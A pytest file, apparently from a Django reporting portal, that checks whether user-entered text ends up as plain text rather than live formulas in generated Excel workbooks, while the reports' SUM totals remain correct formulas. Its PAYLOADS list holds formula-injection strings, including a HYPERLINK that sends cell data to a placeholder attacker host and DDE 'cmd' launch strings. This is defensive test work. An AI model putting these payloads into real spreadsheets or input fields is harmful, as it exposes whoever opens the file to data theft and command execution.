"""Text typed by users never becomes a formula in a workbook the portal writes; the reports' own
totals stay formulas with the right sums. Checked in the sheet XML itself (what Excel reads)."""

import datetime
import io
import re
import zipfile

import pytest
from defusedxml import ElementTree
from openpyxl import load_workbook

from programs.applications.models import SupportApplication
from programs.models import Activity
from reports.builders import builder_for
from reports.models import ReportKind, ReportRun

NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def sheet_cells(data: bytes) -> dict[str, list[tuple[str, str | None, str, str | None]]]:
    """{sheet part: [(cell ref, type, inline text, formula)]} straight from the XML."""
    sheets = {}
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if not re.match(r"xl/worksheets/sheet\d+\.xml$", name):
                continue
            root = ElementTree.fromstring(archive.read(name))
            rows = []
            for c in root.iter(f"{NS}c"):
                text = "".join(t.text or "" for t in c.iter(f"{NS}t"))
                formula = c.find(f"{NS}f")
                rows.append((c.get("r"), c.get("t"), text, formula.text if formula is not None else None))
            sheets[name] = rows
    return sheets


def assert_payload_is_text(data: bytes, payload: str, *, at_least: int) -> None:
    cells = [c for rows in sheet_cells(data).values() for c in rows]
    holding = [c for c in cells if c[2] == payload]
    assert len(holding) >= at_least, (payload, len(holding))
    for ref, kind, _text, formula in holding:
        assert kind in ("inlineStr", "s"), (ref, kind)
        assert formula is None, ref
    core = payload.lstrip("\t=+-@")[:12]
    assert not [c for c in cells if c[3] and core in c[3]], "the payload reached a formula"


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_in_enterprise_application_and_activity_text_stay_text_in_the_report(report_data, payload, tmp_path):
    first = SupportApplication.objects.filter(scheme__plan=report_data.plan, status="disbursed").get()
    first.enterprise.name = payload
    first.enterprise.save()
    SupportApplication.objects.filter(pk=first.pk).update(decision_number=payload)
    Activity.objects.filter(plan=report_data.plan, title="Chuyên mục truyền hình Năng suất").update(
        title=payload, results=payload, responsible_organisation=payload
    )
    run = ReportRun.objects.create(
        plan=report_data.plan,
        kind=ReportKind.FIVE_YEAR,
        data_from=datetime.date(2020, 12, 15),
        data_to=datetime.date(2025, 12, 14),
    )
    output = builder_for(run.kind)(run).build(workdir=tmp_path)
    data = output.xlsx_path.read_bytes()
    # Enterprise list + application list (enterprise name, decision number), results + activity
    # list (title, results, organisation): at least 2 + 2 + 3 + 3 cells.
    assert_payload_is_text(data, payload, at_least=10)

    # The report's own totals are still formulas, and they add up to the hand-computed figures.
    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook["DS hồ sơ hỗ trợ"]
    total_row = sheet.max_row
    approved_formula = sheet.cell(total_row, 6).value
    assert re.fullmatch(r"=SUM\(F2:F\d+\)", approved_formula), approved_formula
    last = int(re.search(r"F(\d+)\)", approved_formula).group(1))
    assert last == total_row - 1
    assert sum(sheet.cell(r, 6).value for r in range(2, last + 1)) == report_data.support["total"]["approved"]
    assert sum(sheet.cell(r, 7).value for r in range(2, last + 1)) == report_data.support["total"]["disbursed"]
    results = workbook["I. Kết quả"]
    cost_formula = results.cell(results.max_row, 6).value
    assert re.fullmatch(r"=SUM\(F3:F\d+\)", cost_formula), cost_formula
    costs = [results.cell(r, 6).value for r in range(3, results.max_row)]
    assert sum(c for c in costs if isinstance(c, int)) == report_data.activity_cost


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_in_enterprise_text_stay_text_in_the_staff_export(client_for, users, payload, post_and_follow):
    from tests.enterprises.factories import EnterpriseFactory
    from tests.enterprises.test_views import export_download

    EnterpriseFactory(name=payload, short_name=payload, address=payload, contact_name=payload)
    _page, response = export_download(client_for(users["staff"]), post_and_follow)
    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"
    assert_payload_is_text(b"".join(response.streaming_content), payload, at_least=3)
